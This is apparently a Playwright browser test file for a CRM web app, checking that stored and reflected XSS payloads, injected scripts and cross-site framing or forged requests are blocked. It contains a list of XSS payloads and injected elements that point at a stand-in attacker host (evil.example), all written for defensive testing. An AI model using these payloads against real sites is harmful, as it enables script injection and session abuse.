"""Attacks in a real browser: scripts in what people type, files that are scripts, pages in frames of others."""

from __future__ import annotations

import io
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from core.testing import settle
from tests.core.test_doors_files import GIF

pytestmark = pytest.mark.browser

EVIL = [
    "<script>window.hit=1</script>", "<img src=x onerror=window.hit=1>", "\"><svg onload=window.hit=1>", "'-window.hit=1-'",
    "{{7*7}}${7*7}",
    "</script><script>window.hit=1</script>", "</textarea><script>window.hit=1</script>", "javascript:window.hit=1",
    "<a href=javascript:window.hit=1>x</a>",
    "<!--<script>window.hit=1//-->", "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
]  # fmt: skip


def test_no_script_in_a_name_runs_anywhere(page: Any, create: Any, create_user: Any, api_as: Any) -> None:
    owner = create_user("evil", name=EVIL[0])
    program = api_as("administrator")
    ids = []
    for place, text in enumerate(EVIL):
        made = program.post(
            "/api/v1/crm_client/", json={"name": text, "code": f"E{place}", "address": text, "remarks": text, "owner": owner.id}
        )
        assert made.status_code == 201, made.text
        ids.append(made.json["id"])
        program.put(f"/api/v1/crm_client/{made.json['id']}", json={"address": text + "!"})
    settle()
    for url in ("/crm_client/", "/crm_client/?group=owner", f"/crm_client/?q={EVIL[0]}", "/settings/journal", "/ab_user/",
    f"/crm_client/new?name={EVIL[1]}",
                f"/login/?next={EVIL[0]}", f"/{EVIL[0]}/", f"/crm_client/?order={EVIL[2]}",
                *(f"/crm_client/{one}" for one in ids)):  # fmt: skip
        page.goto(url)
        page.wait_for_load_state("networkidle")
        assert page.evaluate("window.hit") is None, url
        assert page.locator("script:not([src]):not([type='application/json'])").count() == 0 and page.locator("iframe[srcdoc]").count() == 0
        assert page.locator("a[href^='javascript' i]").count() == 0 and page.locator("[onerror],[onload]").count() == 0, url
    page.goto(f"/crm_client/{ids[0]}")
    assert page.input_value("#field-name") == EVIL[0]
    # The launcher and the choice of a link draw what scripts have fetched.
    page.keyboard.press("Control+k")
    page.keyboard.type("script")
    page.wait_for_timeout(800)
    page.keyboard.press("Escape")
    page.focus("#field-owner-ts-control")
    page.keyboard.type("hit")
    page.wait_for_timeout(800)
    assert page.evaluate("window.hit") is None and page.locator("img[src='x']").count() == 0


def test_a_script_that_got_in_is_stopped_by_the_policy(page_as: Any, chromium: Any, address: str, app: Any, login_as: Any) -> None:
    # A context of its own: the policy's complaint is what is looked for here.
    opened = chromium.new_context(base_url=address)
    cookie = login_as("boss", level="administrator").get_cookie(app.config["SESSION_COOKIE_NAME"])
    opened.add_cookies([{"name": cookie.key, "value": cookie.value, "url": address}])
    number = login_as("boss").post("/file/", data={"file": (io.BytesIO(GIF), "a.gif")}, headers={"Accept": "application/json"}).json["id"]
    settle()
    page, said = opened.new_page(), []
    page.on("console", lambda message: said.append(message.text))
    page.on("request", lambda _request: settle())
    page.goto("/crm_tag/")
    page.evaluate(
        """number => {
        const add = (name, more) => document.body.append(Object.assign(document.createElement(name), more));
        add("script", {textContent: "window.hit = 1"});
        add("script", {src: "https://evil.example/x.js"});
        add("script", {src: `/file/${number}?show=1`});
        add("div", {innerHTML: "<img src=x onerror='window.hit = 1'>"});
        add("base", {href: "https://evil.example/"});
        add("object", {data: `/file/${number}?show=1`});
        add("form", {action: "https://evil.example/", id: "away"});
        document.getElementById("away").submit();
    }""",
        number,
    )
    page.wait_for_timeout(1000)
    assert page.evaluate("window.hit") is None and page.evaluate("document.baseURI").startswith(address)
    assert page.url.startswith(address)
    refused = " ".join(said)
    for word in ("script-src", "base-uri", "form-action"):
        assert word in refused, (word, said)
    assert "MIME type" in refused or "nosniff" in refused.lower(), said
    opened.close()


class _Evil(BaseHTTPRequestHandler):
    page = b""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(self.page)

    def log_message(self, *_words: Any) -> None:
        pass


def test_another_site_frames_forges_and_reads_nothing(app: Any, address: str, chromium: Any, login_as: Any, create: Any) -> None:
    create("crm_tag", name="Peregrine")
    cookie = login_as("boss", level="administrator").get_cookie(app.config["SESSION_COOKIE_NAME"])
    # 127.0.0.1 and localhost are two sites for the browser.
    settle()
    _Evil.page = f"""<iframe id=f src="{address}/crm_tag/"></iframe><img id=i src="{address}/static/favicon.svg">
        <form id=g method=post action="{address}/crm_tag/new" target=_blank><input name=name value=forged></form>""".encode()
    server = ThreadingHTTPServer(("localhost", 0), _Evil)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    opened = chromium.new_context()
    opened.add_cookies([{"name": cookie.key, "value": cookie.value, "url": address, "sameSite": "Lax"}])
    try:
        page = opened.new_page()
        page.on("request", lambda _request: settle())
        page.goto(f"http://localhost:{server.server_port}/")
        page.wait_for_timeout(500)
        framed = [frame for frame in page.frames if frame != page.main_frame]
        assert all("Peregrine" not in frame.content() and not frame.url.startswith(address) for frame in framed)
        read = page.evaluate(f"fetch('{address}/api/v1/crm_tag/', {{credentials: 'include'}}).then(r => r.text()).catch(e => 'stopped')")
        how = "{method: 'POST', credentials: 'include', mode: 'no-cors', body: 'name=forged'}"
        sent = page.evaluate(f"fetch('{address}/crm_tag/new', {how})"
                             ".then(r => r.type).catch(e => 'stopped')")  # fmt: skip
        assert read == "stopped" and sent in ("opaque", "stopped")
        assert page.evaluate("document.getElementById('i').naturalWidth") == 0
        with opened.expect_page() as popup:
            page.evaluate("document.getElementById('g').submit()")
        popup.value.wait_for_load_state()
        assert "forged" not in popup.value.content() or "came from elsewhere" in popup.value.content() or "session" in popup.value.content()
    finally:
        opened.close()
        server.shutdown()
        server.server_close()
    settle()
    rows = login_as("boss").get("/api/v1/crm_tag/").json["result"]
    assert [one["name"] for one in rows] == ["Peregrine"]
